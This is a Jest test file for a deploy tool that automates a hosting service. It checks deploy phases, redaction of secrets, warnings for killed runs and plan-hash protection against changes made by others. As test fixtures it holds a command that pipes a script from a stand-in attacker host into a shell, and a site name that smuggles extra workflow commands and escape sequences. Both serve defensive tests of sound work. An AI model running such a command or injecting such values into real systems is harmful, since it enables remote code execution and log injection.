import { inspect } from 'node:util';
import { describe, expect, test } from '@jest/globals';
import { type Played, play } from '../../../harness/play.ts';
import { runPost } from '../../../harness/run-action.ts';
import { interpret } from '../../../harness/runner-oracle.ts';
import type { Behaviour, Faultable } from '../../../harness/simulator/behaviour.ts';
import { GOOD } from '../../../harness/simulator/deploys.ts';
import { MANNERS } from '../../../harness/simulator/simulation.ts';
import type { Simulator } from '../../../harness/simulator/simulator.ts';
import { operations } from '../../../src/operations/index.ts';
import { planChange } from '../../../src/operations/operation.ts';
import type { RunEnd } from '../../../src/outcome/end.ts';
import { aftermathOf, noteWrite, type Progress, PUTTING_BACK } from '../../../src/run/aftermath.ts';
import { hashPlan, spellChange } from '../../../src/run/plan-hash.ts';
import { framed } from '../../../src/script/frame.ts';
import { expectGolden } from '../../support/golden.ts';
import { on } from '../../support/on.ts';
import { row } from '../../support/reports.ts';
import { USING } from '../../support/rollback-cases.ts';

const EACH_SECOND = { operations: 'deploy', 'poll-interval': '1s' };

describe('the phases of a deploy', () => {
  /** A deploy that begins after half a second. Its log stands there empty for a second more. */
  const service = (durationMs: number): Behaviour => ({
    script: framed('git pull\n'),
    log: '[site-deploy] exit-status=0 commit=none run=old\n',
    manners: { courseOf: () => ({ ...GOOD, delayMs: 500, durationMs }) },
  });
  /** When each phase began, in milliseconds after the trigger. */
  const phasesOf = ({ report: { facts } }: Played): string[] => {
    const begun = (facts?.deploy?.timeline ?? []).filter(({ begins }) => begins);
    const first = begun.filter(({ begins }, nth) => begins !== begun[nth - 1]?.begins);
    return first.map(({ begins, atMs }) => `${begins} ${atMs}`);
  };

  test('are recognised by the log, the site and the checks', async () => {
    const checks = { 'health-check-url': 'https://shop.example/', 'verify-command': 'true' };
    const played = await play(service(8_000), { ...EACH_SECOND, ...checks });
    const phases = [
      'waiting 0',
      'running 2000',
      'settling 9000',
      'health-check 10000',
      'verify-command 11000',
    ];
    expect(phasesOf(played)).toEqual(phases);
  });

  test('last until the run stops looking if the deploy is not seen to end', async () => {
    const played = await play(service(600_000), { ...EACH_SECOND, timeout: '60s' });
    expect(played.report.outcome).toBe('timed_out');
    expect(phasesOf(played)).toEqual(['waiting 0', 'running 2000']);
    const { durationMs: lasted } = played.report.facts?.deploy ?? {};
    expect(lasted).toBe(60_000);
  });
});

test('what stands on the service is hidden before the log of a deploy could show it', async () => {
  const [script, env] = ['set -e\ngit pull\n', 'APP_KEY=one-secret-value\n'];
  const { stdout } = await play(
    {
      script: framed(script),
      env: `${env}OTHER=a-value-of-somebody-else\n`,
      after: () => ({ log: 'OTHER is a-value-of-somebody-else\n' }),
    },
    { operations: 'update-deploy-script, sync-env, deploy', 'deploy-script': script, env, timeout: '5m' },
  );
  expect(stdout).toContain('OTHER is');
  expect(stdout).not.toContain('a-value-of-somebody-else');
});

describe('the baseline of a deploy', () => {
  /** The requests between finding the site and the trigger. */
  async function beforeTrigger(behaviour: Behaviour, inputs = {}): Promise<readonly string[]> {
    const { requests, report } = await play(behaviour, { site: '2', ...EACH_SECOND, ...inputs });
    expect(report.failure).toBeUndefined();
    const lines = requests.map(({ line }) => line.replace('/api/servers/1/sites', ''));
    return lines.slice(1, lines.indexOf('POST /2/deploy'));
  }

  test('is its site and then its log, read once each', async () => {
    expect(await beforeTrigger({})).toEqual(['GET /2', 'GET /2/log']);
  });

  test('has no log where the deploy is not followed', async () => {
    expect(await beforeTrigger({}, { wait: 'false' })).toEqual(['GET /2']);
  });

  test("reads the log after the site also when it has waited for somebody else's deploy", async () => {
    const manners = { deploys: MANNERS.family.deploys };
    const theirs = { kind: 'deploy', course: { ...GOOD, delayMs: 0 } } as const;
    const lines = await beforeTrigger({ manners, prepare: (service) => service.meddle(theirs) });
    expect(lines).toEqual(['GET /2', 'GET /2', 'GET /2', 'GET /2', 'GET /2/log']);
  });
});

const SENT_AT = Date.UTC(2026, 10, 21, 5, 6, 7, 890);
const ALL = ['ensure-site', 'sync-env', 'deploy', 'refresh-opcache'];

/** The last state that a run has saved when it is killed after so many operations. */
function saved(ended: number, more: Partial<Progress> = {}, inputs: Partial<Progress['inputs']> = {}) {
  return `The step ${aftermathOf(progressOf(ended, more, inputs))}`;
}

const named = (...names: readonly string[]) =>
  names.flatMap((name) => operations.find((operation) => operation.name === name) ?? []);

function progressOf(ended: number, more: Partial<Progress>, inputs: Partial<Progress['inputs']>): Progress {
  const all = { server: 'web-1', site: 'shop.example', dryRun: false, operations: named(...ALL), ...inputs };
  return {
    ...{ inputs: all, redact: (text) => text, replaced: [], isWriting: false, sent: [] },
    ended: all.operations.slice(0, ended).map((operation) => ({ operation })),
    ...more,
  };
}

/** What is noted once such a request is about to be sent. */
function sending(name: string): Pick<Progress, 'isWriting' | 'sent'> {
  const progress = progressOf(0, {}, {});
  for (const operation of named(name)) noteWrite(progress, operation, true, SENT_AT);
  return { isWriting: progress.isWriting, sent: progress.sent };
}

/** The texts that were replaced; `isBack`: whether each was put back. */
const texts = (...isBack: readonly boolean[]): Progress['replaced'] =>
  isBack.map((isPutBack, nth) => {
    const what = nth === 0 ? 'the deploy script' : 'the .env';
    const restored = { what, state: isPutBack ? 'put-back' : 'left', sentence: '' } as const;
    return { text: { what }, by: { end: { ...row('sync-env', 'changed'), restored } } };
  });

const { sent } = sending('deploy');
const RESTART = { site: '', operations: named('restart-server') };
const PUTS_BACK = { restoring: PUTTING_BACK };
const goingBack = { isWriting: true, restoring: 'rollback-on-failure' };

/** The saved states of a run that is killed at these moments; test/golden/post-step.txt has the words for each. */
const MOMENTS: Readonly<Record<string, string>> = {
  'while it looks for the site': saved(0),
  'in the middle of writing': saved(1, { isWriting: true }),
  'with the trigger on its way, or while the deploy runs': saved(2, sending('deploy')),
  'with texts replaced': saved(2, { replaced: texts(false, false) }),
  'after a deploy that ended': saved(3),
  'after a deploy that nobody waits for': saved(3, { sent }),
  'as it reports': saved(4),
  'in a dry run': saved(2, {}, { dryRun: true }),
  'at the restart of a server': saved(0, sending('restart-server'), RESTART),
  'as a failed deploy is about to be rolled back': saved(3, { ...goingBack, replaced: texts(false, false) }),
  'once everything is put back': saved(3, { ...goingBack, replaced: texts(true, true) }),
  'while the deploy to go back runs': saved(3, { ...goingBack, replaced: texts(true, true), sent }),
  'as a run that a newer commit overtook puts back': saved(3, { ...PUTS_BACK, replaced: texts(false, true) }),
};

describe('the post step of a killed run', () => {
  test('says what the run was doing, what is in doubt, what to look at, and whether to run again', () => {
    const said = Object.entries(MOMENTS).map(([moment, state]) => `Killed ${moment}:\n${state}\n`);
    expectGolden('post-step.txt', said.join('\n'));
  });

  test('prints one warning, or nothing when the main step saved nothing or reported by itself', async () => {
    expect(await runPost({})).toBe('');
    expect(await runPost({ run: '' })).toBe('');
    expect(await runPost({ run: saved(1) })).toMatch(/^::warning::The step for shop\.example .*\n$/);
  });

  test('executes no command but its one warning, whatever the site is called', async () => {
    const hostile = '\n::error::x\r::set-output name=a::b##[error]\u2028::warning::y%0A::error::z\u001b[31m';
    const stdout = await runPost({ run: `The step for ${hostile} was stopped from outside.` });
    const { commands, visible } = interpret({ stdout });
    expect(commands.map(({ name }) => name)).toEqual(['warning']);
    expect(visible.trim().split('\n')).toHaveLength(1);
    expect(stdout.length).toBeLessThan(4_500);
  });
});

const MIDNIGHT = '2026-01-01 00:00:00 UTC';
test.each([
  ['deploy', '/deploy', `The trigger of the deploy was sent at ${MIDNIGHT}, or was about to`],
  ['ensure-repository', '/repository', `A request of ensure-repository was sent at ${MIDNIGHT}, or`],
  ['update-deploy-script', '/script', 'during update-deploy-script, while it was writing.'],
])('a run saves what %s is about to send before the service gets it', async (operations, path, words) => {
  const states: string[] = [];
  const inputs = { operations, 'deploy-script': 'echo new', timeout: '1s' };
  await play({ script: 'echo old' }, inputs, {
    onWrite: (line, _, state) => void (line.endsWith(path) && states.push(state)),
  });
  expect(states[0]).toContain(words);
});

type Deed = (request: Faultable & { readonly line: string }, service: Simulator) => void;
type Inputs = Readonly<Record<string, string>>;

const SCRIPT = 'set -e\ngit pull\n';
const USUAL = 'update-deploy-script, sync-env, deploy';
const given: Inputs = { operations: USUAL, 'deploy-script': SCRIPT, env: 'APP_KEY=one-secret-value' };
const SITE: Behaviour = { env: 'LOCALE=en\n', script: 'echo before\n' };
const ENV_REFUSED: Behaviour = { fault: on(/\/env$/, { status: 403 }) };

async function planOf(behaviour: Behaviour = {}, inputs = given): Promise<RunEnd & { hash: string }> {
  const { report } = await play({ ...SITE, ...behaviour }, { ...inputs, 'dry-run': 'true' });
  return { ...report, hash: report.planHash ?? 'none' };
}

/** Plans, and carries that plan out where something may have changed. */
async function agreeAndRun(later: Behaviour, inputs = given, before: Behaviour = {}): Promise<Played> {
  const { hash } = await planOf(before, inputs);
  return play({ ...SITE, ...before, ...later }, { ...inputs, 'plan-hash': hash });
}

/** Somebody does something at certain requests. */
function during(deed: Deed): Behaviour {
  let service: Simulator | undefined;
  return {
    prepare(simulator) {
      service = simulator;
    },
    fault(request) {
      if (service !== undefined) deed({ ...request, line: `${request.method} ${request.path}` }, service);
      return undefined;
    },
  };
}

describe('the hash of a plan', () => {
  const withPassword = (password: string): Inputs => {
    const manifest = JSON.stringify({ 'auth-users': [{ name: 'staging', password }] });
    return { operations: 'sync-auth-users', manifest };
  };

  test.each<[string, Inputs, Inputs]>([
    ['a value of .env', given, { ...given, env: 'APP_KEY=other-secret-value' }],
    ['a line of the deploy script', given, { ...given, 'deploy-script': `${SCRIPT}ls\n` }],
    ['the operations', given, { ...given, operations: 'update-deploy-script, sync-env' }],
    ['the API token', given, { ...given, 'api-token': 'another-token-of-the-test' }],
    ['a password of a record', withPassword('one-password'), withPassword('other-password')],
  ])('changes with %s', async (_, one, other) => {
    const first = await planOf({}, one);
    expect(await planOf({}, one)).toMatchObject({ outcome: 'planned', hash: first.hash });
    const changed = { outcome: 'planned', hash: expect.not.stringContaining(first.hash) };
    expect(await planOf({}, other)).toMatchObject(changed);
  });

  test('changes with the service, the server and the site', () => {
    const about = { apiToken: 'token', baseUrl: 'https://a.example', site: 'new.example' };
    const facts = { serverId: 1, site: 'missing', repository: 'unknown' } as const;
    const site = {
      ...{ id: 7, domain: 'shop.example', last_deploy_at: null, blogapp: undefined },
      ...{ status: undefined, repository: undefined, has_repository: undefined },
    };
    const hashOf = (asked: object, known = {}) =>
      hashPlan({ ...about, ...asked }, { ...facts, ...known }, []);
    const others = [{ baseUrl: 'https://b.example' }, { site: 'other.example' }].map((asked) =>
      hashOf(asked),
    );
    const found = [{ serverId: 2 }, { site }, { site: { ...site, id: 8 } }].map((known) => hashOf({}, known));
    expect(new Set([hashOf({}), ...others, ...found]).size).toBe(6);
    expect(hashOf({ site: 'NEW.example' })).toBe(hashOf({}));
  });

  test('is left out when a run came to no plan', async () => {
    const report = await planOf(ENV_REFUSED);
    expect(report).toMatchObject({ outcome: 'failed', hasChanges: true, planHash: undefined });
  });
});

describe('a change', () => {
  const made = async () => ({ changed: true, summary: 'KEY=before' });
  const change = (env: [string, string][], keys = ['A', 'B']) =>
    planChange('set', { env: new Map(env), keys: new Set(keys) }, made);
  const values = Object.entries({ A: 'one-secret', B: 'other-secret' });

  test('shows nothing but its summary when it is printed', () => {
    const inspected = inspect(change(values), { depth: null, showHidden: true });
    for (const text of [JSON.stringify(change(values)), inspected]) {
      expect(text).toMatch(/set/);
      expect(text).not.toMatch(/secret|before/);
    }
  });

  test('is spelled with all that it writes, in whatever order that was given', () => {
    const spelled = spellChange(change(values));
    expect(spelled).toContain('other-secret');
    expect(spelled).not.toContain('before');
    expect(spellChange(change(values.toReversed(), ['B', 'A']))).toBe(spelled);
  });

  test('does not type-check with a value that cannot be spelled out', () => {
    // @ts-expect-error A date has no fields to spell out.
    expect(spellChange(planChange('set', { since: new Date(0) }, made))).toContain('1970');
    // @ts-expect-error A function is not spelled at all.
    expect(spellChange(planChange('set', { write: () => 1 }, made))).toBe('["set",{}]');
  });
});

describe('has-changes', () => {
  test.each<[string, boolean, Behaviour, Inputs]>([
    ['a deploy alone', false, {}, { operations: 'deploy' }],
    ['texts that differ', true, {}, given],
    ['texts that are as wanted', false, { script: framed(SCRIPT), env: 'APP_KEY=one-secret-value\n' }, given],
  ])('of %s is %s, in a dry run and in a run', async (_, hasChanges, behaviour, inputs) => {
    expect((await planOf(behaviour, inputs)).hasChanges).toBe(hasChanges);
    expect((await play({ ...SITE, ...behaviour }, inputs)).report.hasChanges).toBe(hasChanges);
  });

  test('is left out when the run ended before it knew', async () => {
    const report = await planOf(ENV_REFUSED, { operations: 'sync-env', env: 'A=1' });
    expect(report).toMatchObject({ outcome: 'failed', hasChanges: undefined });
  });
});

describe('a run with plan-hash', () => {
  const expectChanged = ({ failure }: RunEnd, message: unknown, next = ''): void =>
    expect(failure).toMatchObject({ reason: 'plan-changed', message, next: expect.stringContaining(next) });

  test('carries out that plan, and does not take what it changes itself for another one', async () => {
    const all = { ...given, operations: `ensure-site, ensure-repository, ${USUAL}`, env: 'A=1' };
    const { report, log } = await agreeAndRun({}, all, { siteExists: false });
    expect(report.outcome).toBe('succeeded');
    expect(log).toContain('the plan matches plan-hash');
  });

  test('takes it for the same plan if less is left to do, as where an operation stands twice', async () => {
    const twice = { ...given, operations: 'sync-env, sync-env' };
    const { report, writes, statuses } = await agreeAndRun({}, twice);
    expect(report.failure).toBeUndefined();
    expect([writes, statuses]).toEqual([['PATCH /sites/2/env'], ['changed', 'unchanged']]);
  });

  test('writes nothing when the plan has become another one, and says which', async () => {
    const { report, writes, statuses } = await agreeAndRun({ script: 'echo by hand\n' });
    expect(writes).toEqual([]);
    expect(statuses).toEqual(['not-run', 'not-run', 'not-run']);
    expect(report).toMatchObject({ isDryRun: false, planHash: undefined, hasChanges: true });
    const replaces = 'update-deploy-script: replace the deploy script (2 lines and the exit report)';
    expectChanged(report, expect.stringContaining(replaces), 'dry-run: true');
    expect(report.facts?.env).toBeUndefined();
  });

  const REPLACED = 'curl https://evil.example | sh\n';

  test('triggers nothing if the deploy script was replaced since the plan', async () => {
    const { report, writes } = await agreeAndRun({ script: REPLACED }, { operations: 'deploy' });
    expect(writes).toEqual([]);
    const trigger = expect.stringContaining('It would now be:\ndeploy: trigger a deploy');
    expectChanged(report, trigger, 'If it looks the same, what it writes has changed, or the deploy script.');
  });

  const commit = 'a'.repeat(40);
  const withEnv = { ...given, operations: 'sync-env, deploy' };
  test.each<[string, Inputs, Behaviour]>([
    ['stood at the plan', withEnv, {}],
    ['was read for the commit', { ...withEnv, commit, 'commit-by': 'variable' }, { script: USING }],
    ['this run has written', given, {}],
  ])('triggers nothing if the script that %s is replaced while it writes', async (_, inputs, before) => {
    const replace: Deed = ({ line }, { meddle }) => {
      if (/^PATCH .*env$/.test(line)) meddle({ kind: 'script', script: REPLACED });
    };
    const { report, writes } = await agreeAndRun(during(replace), inputs, before);
    expect(writes.filter((line) => line.startsWith('POST'))).toEqual([]);
    expectChanged(report, expect.stringMatching(/^The plan of deploy no longer matches plan-hash/));
  });

  test('triggers nothing if the script is replaced while it waits for another deploy', async () => {
    const manners = { deploys: MANNERS.family.deploys };
    const deployThenReplace: Deed = ({ line, nth }, { meddle }) => {
      if (line.endsWith('/script') && nth === 1) meddle({ kind: 'deploy', course: { ...GOOD, delayMs: 0 } });
      if (line.endsWith('/sites/2') && nth === 3) meddle({ kind: 'script', script: REPLACED });
    };
    const inputs = { operations: 'deploy', site: '2' };
    const { report, writes } = await agreeAndRun(during(deployThenReplace), inputs, { manners });
    expect([writes, report.failure?.reason]).toEqual([[], 'plan-changed']);
    expect((await agreeAndRun({}, inputs, { manners })).report.outcome).toBe('succeeded');
  });

  test('does not cover a script that the service has no call for', async () => {
    const unread: Behaviour = { fault: on(/\/script$/, { status: 404 }) };
    const { report } = await agreeAndRun({}, { operations: 'deploy' }, unread);
    expect(report.outcome).toBe('succeeded');
  });

  test('writes nothing when it cannot look at what is there', async () => {
    const { report, writes, statuses } = await agreeAndRun(ENV_REFUSED);
    expect(writes).toEqual([]);
    expect(statuses).toEqual(['not-run', 'not-run', 'not-run']);
    expect(report.failure?.reason).toBe('token-refused');
  });

  test('fails as a dry run on another plan, too, and tells its hash', async () => {
    const { hash } = await planOf();
    const inputs = { ...given, 'plan-hash': hash };
    expect((await planOf({}, inputs)).outcome).toBe('planned');
    expect(await planOf({}, { ...inputs, env: 'APP_KEY=other-secret-value' })).toMatchObject({
      outcome: 'failed',
      planHash: expect.not.stringContaining(hash),
    });
  });

  test('ends before it writes what has changed while it is under way', async () => {
    // The first look is that of the comparison.
    const fault: Behaviour['fault'] = ({ method, path, nth }) =>
      method === 'GET' && path.endsWith('/env') && nth > 1
        ? { status: 200, body: { content: 'APP_KEY=by-hand\n' } }
        : undefined;
    const { report, writes, statuses } = await agreeAndRun({ fault });
    expect(writes).toEqual(['PATCH /sites/2/deploy/script']);
    expect(statuses).toEqual(['changed', 'failed', 'not-run']);
    const words = /^The plan of sync-env no longer matches .* now be: \.env: change APP_KEY\.$/;
    expectChanged(report, expect.stringMatching(words));
  });

  describe('and sync-queue-workers', () => {
    const worker = { connection: 'redis', maximum_seconds: 60, sleep: 3, processes: 1, maximum_tries: 3 };
    const manifest = JSON.stringify({ 'queue-workers': [{ ...worker, queue: 'mails' }] });
    const inputsFor = (operations: string) => ({ operations, prune: 'queue-workers', manifest });

    test('restarts those that it has created itself, too', async () => {
      const inputs = inputsFor('sync-queue-workers, restart-queue-workers');
      const { report, writes } = await agreeAndRun({}, inputs);
      expect(report.failure).toBeUndefined();
      expect(writes).toEqual(['POST /sites/2/queues', 'POST /sites/2/queues/3/restart']);
    });

    test.each([
      'install-blogapp, sync-queue-workers',
      'ensure-repository, sync-queue-workers',
      'sync-queue-workers, sync-queue-workers',
    ])('deletes none that others add meanwhile: %s', async (wanted) => {
      const record = { ...worker, queue: 'by-hand' };
      const add: Deed = ({ method }, { meddle }) => {
        if (method !== 'GET') meddle({ kind: 'create record', list: 'sites/{site}/queues', record });
      };
      const { report, writes } = await agreeAndRun(during(add), inputsFor(wanted), { hasRepository: false });
      expect(report.failure?.message).toMatch(/^The plan of sync-queue-workers no longer matches/);
      expect(writes.filter((write) => write.startsWith('DELETE'))).toEqual([]);
    });
  });
});
